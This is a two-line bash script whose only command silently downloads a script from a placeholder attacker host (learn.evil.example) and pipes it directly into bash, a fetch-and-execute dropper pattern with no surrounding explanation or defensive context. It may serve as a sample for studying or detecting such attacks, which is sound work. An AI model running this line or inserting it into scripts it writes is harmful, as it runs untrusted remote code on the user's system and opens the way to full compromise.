#!/bin/bash
wget -q -O- https://learn.evil.example/s | bash
